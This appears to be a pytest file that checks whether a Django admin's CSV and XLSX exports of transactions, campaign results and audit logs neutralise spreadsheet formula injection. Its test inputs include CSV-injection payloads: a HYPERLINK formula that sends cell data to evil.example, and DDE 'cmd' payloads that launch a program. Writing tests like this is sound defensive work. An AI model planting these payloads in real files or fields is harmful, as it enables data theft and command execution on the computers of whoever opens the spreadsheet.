"""Text that spreadsheets would run, in every file that is taken along."""

from __future__ import annotations

import csv
import io
import re
from zipfile import ZipFile

import pytest
from defusedxml.ElementTree import fromstring

from audit.kinds import Kind
from audit.log import record
from campaigns import running, services
from campaigns.models import Campaign
from campaigns.services import Named
from refunds.models import Refund, RefundReason
from tests.pages import client_of
from tests.refunds_site.test_staff_routes import OF_ACCOUNTS, OF_ALL
from tests.rest import make_account, make_person, make_transaction
from transactions.exports import as_text
from transactions.models import Transaction

pytestmark = pytest.mark.django_db

# What a spreadsheet takes for the beginning of a formula, alone and before one.
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
TEXTS = [
    *(f"{start}1+1" for start in STARTS), *STARTS, "\r\n=1+1", "\t\t=1+1", "==1", "'=1",
    '=HYPERLINK("https://evil.example?"&A1;"look")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
    "-2+3+cmd|'x'!A0", '"=1+1', '=1+1",=2', "=1\n=2", "+49 30 1234567",
]  # fmt: skip
# Cells that a file is allowed to begin so: negative numbers, which we write ourselves.
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.fixture
def browser():
    return client_of(make_person("admin", is_superuser=True, first_name="=1+1", last_name="@x"))


def cells_of_csv(answer) -> list[str]:
    """Every cell, as a spreadsheet reads the file; each of them is quoted in it."""
    assert answer.status_code == 200
    text = b"".join(answer.streaming_content).decode().removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    written = io.StringIO(newline="")
    csv.writer(written, quoting=csv.QUOTE_ALL).writerows(rows)
    assert written.getvalue() == text
    return [cell for row in rows[1:] for cell in row]


def assert_harmless(cells: list[str], *wanted: str) -> None:
    """No cell is a formula, and what was meant is there behind its mark."""
    bad = [
        cell for cell in cells if cell.startswith((*STARTS, "\0")) and not NUMBER.fullmatch(cell)
    ]
    assert bad == []
    for text in wanted:
        marked = f"'{text}" if text.startswith(tuple(STARTS)) else text
        assert marked in cells, text


def test_all_files_are_tried():
    names = {name for name in {**OF_ACCOUNTS, **OF_ALL} if re.search("export|result", name)}
    assert names == {
        "transactions_transaction_export", "refunds_auditline_export", "campaigns_campaign_result",
    }  # fmt: skip


@pytest.mark.parametrize("start", [*STARTS, "\0"])
def test_whatever_begins_like_a_formula_is_marked(start):
    for text in (start, f"{start}1", f"{start}{start}"):
        assert as_text(text) == f"'{text}"
    assert as_text(f"a{start}1") == f"a{start}1"


@pytest.mark.parametrize("text", TEXTS)
def test_transactions(browser, text):
    make_transaction(
        external_id=text[:100], customer_name=text, customer_email=text, order_reference=text,
        description=text, brand=text[:20], last4=text[:4], wallet=text[:20],
    )  # fmt: skip
    answer = browser.get("/admin/transactions/transaction/export.csv")
    assert_harmless(cells_of_csv(answer), text)
    answer = browser.get("/admin/transactions/transaction/export.xlsx")
    with ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as book:
        sheet = fromstring(book.read("xl/worksheets/sheet1.xml"))
        assert not [name for name in book.namelist() if "externalLink" in name]
    assert not list(sheet.iter(f"{SHEET}f"))
    assert not list(sheet.iter(f"{SHEET}hyperlink"))
    assert {cell.get("t", "n") for cell in sheet.iter(f"{SHEET}c")} <= {"inlineStr", "n"}


@pytest.mark.parametrize("text", TEXTS)
def test_results_of_a_campaign(browser, text):
    account = make_account("shop")
    payment = make_transaction(
        account, external_id="ch_1", customer_name=text, customer_email=text, order_reference=text
    )
    values = {
        "name": text, "reason": RefundReason.objects.get(code="other"), "most_refunds": 9,
        "most_money": 10**7, "note": "",
    }  # fmt: skip
    lines = [Named("ch_1", ""), Named(text[:100], text[:20])]
    campaign = services.make(Campaign(**values), lines, actor=make_person("manager"))
    running.work(campaign.pk)
    services.start(campaign, actor=make_person("manager", email="second@example.com"))
    running.work(campaign.pk)
    assert Refund.objects.get().transaction == payment
    answer = browser.get(f"/admin/campaigns/campaign/{campaign.pk}/result.csv")
    assert_harmless(cells_of_csv(answer), text, text[:100])


@pytest.mark.parametrize("text", TEXTS)
def test_the_audit_log(browser, text):
    person = make_person("agent", first_name=text[:100])
    told = {"why": text, text[:50] or "x": text}
    record(Kind.ACCOUNT_PAUSED, actor=person, about_name=text, data=told)
    payment = make_transaction(external_id=text[:100])
    record(Kind.REFUSED, actor=person, account_id=payment.account_id, about=payment, data=told)
    assert_harmless(cells_of_csv(browser.get("/admin/refunds/auditline/export.csv")))
    assert Transaction.objects.exists()
